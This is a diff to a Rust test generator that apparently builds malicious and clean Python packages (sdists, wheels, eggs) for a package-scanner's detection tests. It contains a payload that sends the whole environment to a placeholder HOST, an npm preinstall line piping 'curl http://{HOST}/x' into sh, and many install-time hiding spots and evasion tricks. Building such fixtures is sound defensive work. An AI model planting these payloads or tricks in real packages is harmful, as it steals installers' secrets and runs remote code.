@@ -15,7 +15,9 @@ pub(crate) fn quiet() -> Vec<u8> {
 
 /// The same as one line.
 fn quiet_line() -> String {
-    format!("import os,urllib.request as u;u.urlopen(u.Request('https://{HOST}/a',data=repr(dict(os.environ)).encode()))")
+    format!(
+        "import os,urllib.request as u;u.urlopen(u.Request('https://{HOST}/a',data=repr(dict(os.environ)).encode()))"
+    )
 }
 
 /// The same in a function.
@@ -91,7 +93,10 @@ pub(crate) fn tars() -> Vec<Case> {
     cases.clear(
         "honest-quiet-global-comment",
         SDIST,
-        sdist_and(&[pax(b'g', &[("comment", "0123456789abcdef0123456789abcdef01234567")]), file("demo-1.0/a.txt", b"x\n")]),
+        sdist_and(&[
+            pax(b'g', &[("comment", "0123456789abcdef0123456789abcdef01234567")]),
+            file("demo-1.0/a.txt", b"x\n"),
+        ]),
     );
     // A name that does not fit its header, and a header that names something else.
     let long = format!("demo-1.0/docs/{}.txt", "a".repeat(110));
@@ -124,7 +129,9 @@ pub(crate) fn tars() -> Vec<Case> {
         "",
     );
     // Two contents with one checksum: the second `pyproject.toml` is the one that counts.
-    let clean = [&b"[build-system]\nrequires=[\"setuptools\"]\nbuild-backend=\"setuptools.build_meta\"\n# "[..], &[b'x'; 40]].concat();
+    let clean =
+        [&b"[build-system]\nrequires=[\"setuptools\"]\nbuild-backend=\"setuptools.build_meta\"\n# "[..], &[b'x'; 40]]
+            .concat();
     let evil = [&backend("tools")[..], b"# "].concat();
     let evil = with_checksum(&evil, &clean);
     assert_eq!((crc(&evil), evil.len()), (crc(&clean), clean.len()));
@@ -275,6 +282,12 @@ pub(crate) fn streams() -> Vec<Case> {
     // pip asks first whether a file ends as a zip does.
     let setup = [quiet(), SETUP.to_vec()].concat();
     cases.seen("quiet-tar-that-ends-as-zip", "demo-1.0.tar", outer(&setup), "archive-polyglot");
+    let parts = [
+        file("demo-1.0/PKG-INFO", METADATA),
+        file("demo-1.0/setup.py", &setup),
+        file("demo-1.0/demo/__init__.py", CLEAN),
+    ];
+    cases.seen("quiet-lzma-of-other-properties", SDIST, lzma_of_other_properties(&tar(&parts)), "");
     cases.clear("honest-quiet-plain-tar", "demo-1.0.tar", tar(&sdist_parts(SETUP)));
     cases.all
 }
@@ -298,7 +311,11 @@ pub(crate) fn roles() -> Vec<Case> {
         });
     }
     pair(&mut cases, "path-shadows-own-module", true, &|code| {
-        vec![("setup.py", setup_with(inserts("tools"))), ("helper.py", HARMLESS.to_vec()), ("tools/helper.py", code.to_vec())]
+        vec![
+            ("setup.py", setup_with(inserts("tools"))),
+            ("helper.py", HARMLESS.to_vec()),
+            ("tools/helper.py", code.to_vec()),
+        ]
     });
     pair(&mut cases, "path-shadows-standard-module", true, &|code| {
         let names = String::from_utf8(inserts("tools")).unwrap().replace("helper", "colorsys");
@@ -348,13 +365,23 @@ pub(crate) fn roles() -> Vec<Case> {
         vec![("setup.cfg", text(&lines)), ("examples/__init__.py", code.to_vec())]
     });
     pair(&mut cases, "package-dir-toml", true, &|code| {
-        let lines = ["[build-system]", "requires = [\"setuptools\"]", "build-backend = \"setuptools.build_meta\"",
-            "[tool.setuptools.package-dir]", "demox = \"tests\""];
+        let lines = [
+            "[build-system]",
+            "requires = [\"setuptools\"]",
+            "build-backend = \"setuptools.build_meta\"",
+            "[tool.setuptools.package-dir]",
+            "demox = \"tests\"",
+        ];
         vec![("pyproject.toml", text(&lines)), ("tests/__init__.py", code.to_vec())]
     });
     pair(&mut cases, "force-include", true, &|code| {
-        let lines = ["[build-system]", "requires = [\"hatchling\"]", "build-backend = \"hatchling.build\"",
-            "[tool.hatch.build.targets.wheel.force-include]", "\"tests\" = \"demox\""];
+        let lines = [
+            "[build-system]",
+            "requires = [\"hatchling\"]",
+            "build-backend = \"hatchling.build\"",
+            "[tool.hatch.build.targets.wheel.force-include]",
+            "\"tests\" = \"demox\"",
+        ];
         vec![("pyproject.toml", text(&lines)), ("tests/__init__.py", code.to_vec())]
     });
     let line = quiet_line() + "\n";
@@ -379,8 +406,12 @@ pub(crate) fn roles() -> Vec<Case> {
     // The build looks for plug-ins in the project that it builds.
     let points = b"[setuptools.finalize_distribution_options]\nx = evil:run\n".to_vec();
     let info = |evil: Vec<u8>| {
-        vec![("evil.py", evil), ("demo.egg-info/PKG-INFO", METADATA.to_vec()),
-            ("demo.egg-info/entry_points.txt", points.clone()), ("demo.egg-info/top_level.txt", b"demo\n".to_vec())]
+        vec![
+            ("evil.py", evil),
+            ("demo.egg-info/PKG-INFO", METADATA.to_vec()),
+            ("demo.egg-info/entry_points.txt", points.clone()),
+            ("demo.egg-info/top_level.txt", b"demo\n".to_vec()),
+        ]
     };
     cases.seen("quiet-egg-info-module", SDIST, sdist_of(&info(quiet())), "");
     cases.seen("quiet-egg-info-function", SDIST, sdist_of(&info(quiet_function("run"))), "");
@@ -389,8 +420,13 @@ pub(crate) fn roles() -> Vec<Case> {
     let script = |code: &[u8]| [b"#!/usr/bin/python\n", code].concat();
     cases.seen("quiet-info-script", WHEEL, wheel_of(&vec![("demo-1.0.dist-info/hook", script(&quiet()))]), "");
     let egg = |code: &[u8]| {
-        small_zip(&[("EGG-INFO/PKG-INFO", METADATA), ("EGG-INFO/SOURCES.txt", b"x\n"), ("EGG-INFO/top_level.txt", b"demo\n"),
-            ("EGG-INFO/scripts/demo-run", &script(code)), ("demo/__init__.py", CLEAN)])
+        small_zip(&[
+            ("EGG-INFO/PKG-INFO", METADATA),
+            ("EGG-INFO/SOURCES.txt", b"x\n"),
+            ("EGG-INFO/top_level.txt", b"demo\n"),
+            ("EGG-INFO/scripts/demo-run", &script(code)),
+            ("demo/__init__.py", CLEAN),
+        ])
     };
     cases.seen("quiet-egg-script", "demo-1.0-py3.11.egg", egg(&quiet()), "");
     cases.clear("honest-quiet-egg-script", "demo-1.0-py3.11.egg", egg(HARMLESS));
@@ -411,14 +447,21 @@ pub(crate) fn roles() -> Vec<Case> {
     cases.clear(
         "honest-quiet-data-share",
         WHEEL,
-        wheel_of(&vec![("demo-1.0.data/data/share/man/man1/demo.1", b".TH DEMO 1\n".to_vec()),
-            ("demo-1.0.data/data/etc/demo.conf", b"[demo]\na = 1\n".to_vec())]),
+        wheel_of(&vec![
+            ("demo-1.0.data/data/share/man/man1/demo.1", b".TH DEMO 1\n".to_vec()),
+            ("demo-1.0.data/data/etc/demo.conf", b"[demo]\na = 1\n".to_vec()),
+        ]),
     );
     // Where a line of a `.pth` ends is for the newest Python to say.
-    for (name, end) in [("form-feed", "\x0c"), ("tab", "\x0b"), ("separator", "\u{2028}"), ("file", "\x1c"), ("next", "\u{85}")] {
+    for (name, end) in
+        [("form-feed", "\x0c"), ("tab", "\x0b"), ("separator", "\u{2028}"), ("file", "\x1c"), ("next", "\u{85}")]
+    {
         let pth = format!("demo{end}{line}").into_bytes();
         cases.seen(format!("quiet-pth-{name}"), WHEEL, wheel_of(&vec![("demo.pth", pth)]), "");
     }
+    // Where the country's codec is one of letters of two bytes, the backslash is the half of a letter.
+    let half = [&b"import os;x='\x95\\';"[..], quiet_line().replace('\'', "\"").as_bytes(), b"#'\n"].concat();
+    cases.seen("quiet-pth-local-codec", WHEEL, wheel_of(&vec![("demo.pth", half)]), "");
     for codec in ["rot13", "utf-7", "unicode_escape"] {
         let pth = format!("# coding: {codec}\n{line}").into_bytes();
         cases.seen(format!("quiet-pth-cookie-{codec}"), WHEEL, wheel_of(&vec![("demo.pth", pth)]), "");
@@ -431,8 +474,10 @@ pub(crate) fn builds() -> Vec<Case> {
     let mut cases = Cases::new(Row::Wheels);
     let build = |backend: &str, more: &[&str]| {
         let requires = backend.split('.').next().unwrap_or_default().replace('_', "-");
-        let head = [format!("[build-system]\nrequires = [\"{requires}\"]\nbuild-backend = \"{backend}\""),
-            "[project]\nname = \"demo\"".to_owned()];
+        let head = [
+            format!("[build-system]\nrequires = [\"{requires}\"]\nbuild-backend = \"{backend}\""),
+            "[project]\nname = \"demo\"".to_owned(),
+        ];
         [text(&head.iter().map(String::as_str).collect::<Vec<_>>()), text(more)].concat()
     };
     for (name, path) in [("dots", "demo/../tools"), ("dot", "tools/."), ("double", "./tools//")] {
@@ -441,25 +486,36 @@ pub(crate) fn builds() -> Vec<Case> {
         });
     }
     pair(&mut cases, "backend-helper", true, &|code| {
-        vec![("pyproject.toml", backend("tools")), ("tools/backend.py", b"import helper\n".to_vec()),
-            ("tools/helper.py", code.to_vec())]
+        vec![
+            ("pyproject.toml", backend("tools")),
+            ("tools/backend.py", b"import helper\n".to_vec()),
+            ("tools/helper.py", code.to_vec()),
+        ]
     });
     pair(&mut cases, "backend-package", true, &|code| {
         let project = String::from_utf8(backend("tests")).unwrap().replace("\"backend\"", "\"pkg.backend\"");
-        vec![("pyproject.toml", project.into_bytes()), ("tests/pkg/__init__.py", code.to_vec()),
-            ("tests/pkg/backend.py", b"x = 1\n".to_vec())]
+        vec![
+            ("pyproject.toml", project.into_bytes()),
+            ("tests/pkg/__init__.py", code.to_vec()),
+            ("tests/pkg/backend.py", b"x = 1\n".to_vec()),
+        ]
     });
     // What one reader of TOML refuses and another takes.
     let deep = format!("x = {}{}\n", "[".repeat(200), "]".repeat(200));
     for (name, odd) in [("number", "x = 99999999999999999999\n"), ("depth", deep.as_str())] {
-        let files = vec![("pyproject.toml", [odd.as_bytes(), &backend("tools")].concat()), ("tools/backend.py", quiet())];
+        let files =
+            vec![("pyproject.toml", [odd.as_bytes(), &backend("tools")].concat()), ("tools/backend.py", quiet())];
         cases.seen(format!("quiet-toml-{name}"), SDIST, sdist_of(&files), "");
     }
     // Where the build begins when there is more than one folder.
     let bare = |tool: &[u8]| vec![("^pyproject.toml", backend("tools")), ("^tools/backend.py", tool.to_vec())];
     cases.seen("quiet-root-beside-folder", SDIST, sdist_of(&bare(&quiet())), "");
     let two = |tool: &[u8]| {
-        vec![("pyproject.toml", backend("tests")), ("tests/backend.py", tool.to_vec()), ("^a/PKG-INFO", METADATA.to_vec())]
+        vec![
+            ("pyproject.toml", backend("tests")),
+            ("tests/backend.py", tool.to_vec()),
+            ("^a/PKG-INFO", METADATA.to_vec()),
+        ]
     };
     cases.seen("quiet-second-folder", SDIST, sdist_of(&two(&quiet())), "");
     for (name, hook) in [("dots", "tools/../tools/h.py"), ("dot", "./tools/./h.py")] {
@@ -469,13 +525,18 @@ pub(crate) fn builds() -> Vec<Case> {
         });
     }
     pair(&mut cases, "hatch-own-file", true, &|code| {
-        vec![("pyproject.toml", build("hatchling.build", &[])),
-            ("hatch.toml", text(&["[build.hooks.custom]", "path = \"tools/h.py\""])), ("tools/h.py", code.to_vec())]
+        vec![
+            ("pyproject.toml", build("hatchling.build", &[])),
+            ("hatch.toml", text(&["[build.hooks.custom]", "path = \"tools/h.py\""])),
+            ("tools/h.py", code.to_vec()),
+        ]
     });
     pair(&mut cases, "setuptools-attribute", true, &|code| {
         let lines = ["dynamic = [\"version\"]", "[tool.setuptools.dynamic]", "version = {attr = \"tools.v.V\"}"];
-        vec![("pyproject.toml", build("setuptools.build_meta", &lines)),
-            ("tools/v.py", [code, b"\nV = str(1)\n"].concat())]
+        vec![
+            ("pyproject.toml", build("setuptools.build_meta", &lines)),
+            ("tools/v.py", [code, b"\nV = str(1)\n"].concat()),
+        ]
     });
     for (name, line) in [("colon", "cmdclass : egg_info = tools.c.C"), ("case", "CmdClass = egg_info = tools.c.C")] {
         pair(&mut cases, &format!("setup-cfg-{name}"), true, &|code| {
@@ -489,8 +550,14 @@ pub(crate) fn builds() -> Vec<Case> {
 pub(crate) fn builders() -> Vec<Case> {
     let mut cases = Cases::new(Row::Wheels);
     let project = |backend: &str, requires: &str| {
-        text(&["[build-system]", &format!("requires = [\"{requires}\"]"), &format!("build-backend = \"{backend}\""),
-            "[project]", "name = \"demo\"", "version = \"1.0\""])
+        text(&[
+            "[build-system]",
+            &format!("requires = [\"{requires}\"]"),
+            &format!("build-backend = \"{backend}\""),
+            "[project]",
+            "name = \"demo\"",
+            "version = \"1.0\"",
+        ])
     };
     let line = quiet_line();
     for (name, toml, place, evil, tame) in [
@@ -529,10 +596,24 @@ pub(crate) fn builders() -> Vec<Case> {
         cases.seen(format!("quiet-builder-{name}"), SDIST, sdist_of(&files(&evil)), "");
         cases.clear(format!("honest-quiet-builder-{name}"), SDIST, sdist_of(&files(tame)));
     }
+    let npm = |command: &str| {
+        let toml = "[build-system]\nrequires = [\"hatchling\", \"hatch-jupyter-builder\"]\nbuild-backend = \"hatchling.build\"\n\
+                    [project]\nname = \"demo\"\nversion = \"1.0\"\n";
+        let package = format!("{{\"name\": \"demo\", \"scripts\": {{\"preinstall\": \"{command}\"}}}}\n");
+        sdist_of(&vec![("pyproject.toml", toml.as_bytes().to_vec()), ("package.json", package.into_bytes())])
+    };
+    cases.seen("quiet-builder-npm", SDIST, npm(&format!("curl http://{HOST}/x | sh")), "");
+    cases.clear("honest-quiet-builder-npm", SDIST, npm("tsc --build"));
+    pair(&mut cases, "builder-pyximport", true, &|code| {
+        let setup = b"import pyximport\npyximport.install()\nimport demo.core\n";
+        vec![("setup.py", [&setup[..], SETUP].concat()), ("demo/core.pyx", code.to_vec())]
+    });
     pair(&mut cases, "builder-meson-script", true, &|code| {
-        vec![("pyproject.toml", project("mesonpy", "meson-python")),
+        vec![
+            ("pyproject.toml", project("mesonpy", "meson-python")),
             ("meson.build", b"project('demo', 'c')\nrun_command('python3', 'tools/gen.py', check: true)\n".to_vec()),
-            ("tools/gen.py", code.to_vec())]
+            ("tools/gen.py", code.to_vec()),
+        ]
     });
     cases.all
 }
